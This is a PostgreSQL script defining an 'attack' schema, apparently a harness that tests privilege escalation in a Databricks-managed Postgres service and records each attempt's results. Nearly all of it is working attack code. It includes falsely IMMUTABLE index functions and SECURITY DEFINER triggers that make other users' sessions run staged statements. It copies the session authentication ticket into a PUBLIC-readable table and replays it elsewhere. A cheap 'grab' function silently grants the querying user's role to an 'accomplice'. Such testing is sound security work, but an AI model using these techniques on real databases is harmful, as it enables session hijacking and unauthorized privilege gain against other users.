-- Everything in the schema attack belongs to the attacker.

CREATE FUNCTION attack.probe(context_name text) RETURNS void LANGUAGE plpgsql VOLATILE AS $$
DECLARE
  armed stage.armed;
  attempt stage.attempt;
  before text[];
  changed text[] := '{}';
  failure text;
BEGIN
  SELECT * INTO armed FROM stage.armed AS it
   WHERE it.context = context_name AND stage.backend_type() ~ it.backend_type
     AND COALESCE(it.session_role, session_user) = session_user;
  IF NOT FOUND OR EXISTS (SELECT FROM stage.outcome AS known WHERE known.run = armed.run) THEN RETURN; END IF;
  -- First of all, because attempts may lead here again.
  BEGIN
    SELECT pg_catalog.array_remove(ARRAY[identity_id::text], NULL) INTO changed FROM public.databricks_session_identity();
  EXCEPTION WHEN OTHERS THEN
    failure := SQLSTATE || ' ' || SQLERRM;
  END;
  INSERT INTO stage.outcome
  VALUES (armed.run, 0, stage.backend_type(), session_user, current_user, 'identity', 'databricks_session_identity',
          changed, failure);
  before := stage.facts();
  FOR attempt IN SELECT * FROM stage.attempt AS it
                  WHERE NOT armed.keeps OR it.whose <> 'postgresql' ORDER BY it.position LOOP
    changed := '{}';
    failure := NULL;
    BEGIN
      EXECUTE attempt.statement;
      changed := stage.difference(before, stage.facts());
      IF NOT armed.keeps THEN RAISE EXCEPTION USING ERRCODE = 'LG000'; END IF;
    EXCEPTION
      WHEN SQLSTATE 'LG000' THEN NULL;
      WHEN OTHERS THEN failure := SQLSTATE || ' ' || SQLERRM;
    END;
    INSERT INTO stage.outcome
    VALUES (armed.run, attempt.position, stage.backend_type(), session_user, current_user, attempt.whose,
            attempt.statement, changed, failure);
  END LOOP;
END $$;

-- What the gateway opened this session with, to be put in the place of what it opened another with.
CREATE TABLE attack.ticket AS SELECT pg_catalog.current_setting('databricks_auth.session') AS ticket;
GRANT SELECT ON attack.ticket TO PUBLIC;
CREATE FUNCTION attack.bring_ticket() RETURNS text LANGUAGE sql VOLATILE
  AS $$ SELECT pg_catalog.set_config('databricks_auth.session', ticket, false) FROM attack.ticket $$;

-- The function of an expression index must be immutable, and says so.
CREATE FUNCTION attack.peek(context text, value int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  PERFORM attack.probe(context);
  RETURN value;
END $$;
CREATE FUNCTION attack.peek_as_owner(context text, value int) RETURNS int LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS $$
BEGIN
  PERFORM attack.probe(context);
  RETURN value;
END $$;

CREATE FUNCTION attack.fire() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM attack.probe(TG_ARGV[0]);
  RETURN COALESCE(NEW, OLD);
END $$;
CREATE FUNCTION attack.fire_as_owner() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  PERFORM attack.probe(TG_ARGV[0]);
  RETURN COALESCE(NEW, OLD);
END $$;

-- Put into a query on a view or table of ours, it would be run with the rights of whoever the query runs as.
CREATE FUNCTION attack.grab(role_name text) RETURNS boolean LANGUAGE plpgsql VOLATILE COST 0.0001 AS $$
BEGIN
  EXECUTE pg_catalog.format('GRANT %I TO accomplice', role_name);
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $$;
